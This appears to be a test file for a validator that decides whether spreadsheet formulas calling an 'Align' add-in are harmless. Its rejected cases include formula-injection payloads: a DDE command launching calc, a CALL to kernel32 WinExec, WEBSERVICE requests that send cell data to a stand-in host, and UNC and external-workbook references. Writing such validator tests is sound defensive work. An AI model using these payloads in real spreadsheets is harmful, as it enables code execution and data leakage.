import { isHarmless } from "../../src/formulas/harmless";

const names = new Map([
  ["rate", "=Sheet1!$A$1*2"],
  ["evil", '=WEBSERVICE("http://example.org")'],
  ["round", "=Round+1"],
]);

test.each([
  '=ALIGN("MDA")',
  "=IFERROR(ROUND(ALIGN([@Code],$B$1),1),NA())",
  '=ALIGN.VOTE(\'Near abroad\'!A2,"ES-11/1")&" | "',
  "=LET(x,ALIGN(A2),IF(x>0,x,-x))",
  '=geo.align.get(A2,"score")*Rate',
  "_xlfn.IFS(_xldudf_ALIGN(A2)>0,1,TRUE,0)",
  "=SUM(ALIGN(Data!A2:A9))/COUNTA(List[Code])",
])("%s calls Align, and is harmless beside that", (formula) => {
  expect(isHarmless(formula, names)).toBe(true);
});

test.each([
  ['=WEBSERVICE("http://example.org")', "no call of Align"],
  ['=ALIGN("MDA")&WEBSERVICE("http://example.org?"&A1)', "the network"],
  ["=IF(ALIGN(A2)>0,_xlfn.WEBSERVICE(A1))", "the network, as a file spells it"],
  ["=ALIGN(cmd|'/c calc'!A0)", "another program"],
  ["=ALIGN('\\\\host\\share\\[book.xlsx]Sheet1'!A1)", "another machine's file"],
  ["=ALIGN([1]Sheet1!A1)", "another workbook"],
  ["=ALIGN('C:\\a\\book.xlsx'!Name)", "another workbook's name"],
  ["=ALIGN(book.xlsx!List[Code])&book.xlsx!Name", "an open workbook's name"],
  ['=HYPERLINK("http://example.org",ALIGN(A2))', "a link"],
  ['=ALIGN(INDIRECT("[b]S!A1"))', "a reference made of text"],
  ['=RTD("prog",,"x")+ALIGN(A2)', "a server"],
  ['=ALIGN(A2)+CALL("kernel32","WinExec")', "code"],
  ["=ALIGN(A2)+Evil", "a name that asks the network"],
  ["=ALIGN(A2)+round", "a name that names itself"],
  ["=ALIGN.EVIL(A2)", "no function of Align"],
  ["=[2]!_xldudf_ALIGN(A2)", "another add-in"],
  ["=ALIGN(A2)+MyFunction(A2)", "a function of somebody's"],
])("%s is not (%s)", (formula) => {
  expect(isHarmless(formula, names)).toBe(false);
});
